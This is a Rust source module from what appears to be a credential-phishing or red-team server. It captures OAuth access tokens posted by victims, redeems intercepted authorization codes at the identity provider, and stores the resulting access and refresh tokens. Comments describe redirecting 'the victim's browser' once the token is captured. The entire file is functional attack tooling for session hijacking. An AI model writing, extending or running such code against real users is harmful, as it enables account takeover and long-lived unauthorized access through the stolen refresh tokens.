use chrono::Duration;

use super::errors::CaptureError;
use super::types::{CapturedCode, HookParams};
use crate::idp::{IdpError, TokenResponse, exchange_code_for_token};
use crate::state::SharedState;
use crate::storage::TokenStore;
use crate::token::{Token, TokenError};

const DEFAULT_FINAL_DESTINATION: &str = "/";

/// Ingest an access token posted to `/callback`. Returns the store key.
pub async fn capture_access_token(
    state: &SharedState,
    access_token: Option<&str>,
) -> Result<String, CaptureError> {
    let raw = access_token
        .filter(|t| !t.trim().is_empty())
        .ok_or(CaptureError::NoToken)?;

    let token = Token::parse(raw)?;
    let key = state.tokens.add(token).await;
    tracing::info!(key = %key, "Captured access token");
    Ok(key)
}

/// Redeem the authorization code delivered to `/hook` and store the result.
///
/// The session's PKCE verifier is taken before the token request, so a replayed
/// code fails without reaching the IDP.
pub async fn capture_authorization_code(
    state: &SharedState,
    params: &HookParams,
) -> Result<CapturedCode, CaptureError> {
    if let Some(error) = params.error.as_deref() {
        let detail = params.error_description.as_deref().unwrap_or(error);
        tracing::warn!(error = %error, "IDP returned an error to the hook");
        return Err(CaptureError::Denied(detail.to_string()));
    }

    let code = params
        .code
        .as_deref()
        .filter(|c| !c.is_empty())
        .ok_or(CaptureError::MissingCode)?;

    let grant = state
        .idp
        .take_code_flow(params.state.as_deref().unwrap_or_default())
        .await?;

    let response = exchange_code_for_token(&grant, code).await?;
    let key = store_token_response(&state.tokens, response).await?;
    tracing::info!(key = %key, "Captured token from authorization code");

    Ok(CapturedCode {
        key,
        final_destination: grant.final_destination,
    })
}

/// Where the victim's browser goes once its token is captured.
pub async fn final_destination(state: &SharedState) -> String {
    state
        .idp
        .final_destination()
        .await
        .filter(|d| !d.trim().is_empty())
        .unwrap_or_else(|| DEFAULT_FINAL_DESTINATION.to_string())
}

/// Store the access token of a token-endpoint response, with its refresh token.
///
/// An opaque access token carries no expiry of its own, so `expires_in` is applied.
pub(crate) async fn store_token_response(
    tokens: &TokenStore,
    response: TokenResponse,
) -> Result<String, TokenError> {
    let mut token = Token::parse(&response.access_token)?.with_refresh_token(response.refresh_token);
    if let (false, Some(expires_in)) = (token.is_jwt(), response.expires_in) {
        // An out-of-range lifetime leaves the expiry unknown rather than failing the capture
        match Duration::try_seconds(expires_in) {
            Some(delta) => match token.set_expiry(delta) {
                Err(TokenError::ExpiryOutOfRange(_)) => {
                    tracing::warn!(expires_in, "Ignoring out-of-range expires_in")
                }
                other => other?,
            },
            None => tracing::warn!(expires_in, "Ignoring out-of-range expires_in"),
        }
    }
    Ok(tokens.add(token).await)
}

impl CaptureError {
    /// True when the failure came from the IDP's token endpoint rather than the request.
    pub fn is_upstream(&self) -> bool {
        matches!(self, Self::Idp(IdpError::TokenExchange(_)) | Self::Idp(IdpError::Utils(_)))
    }
}
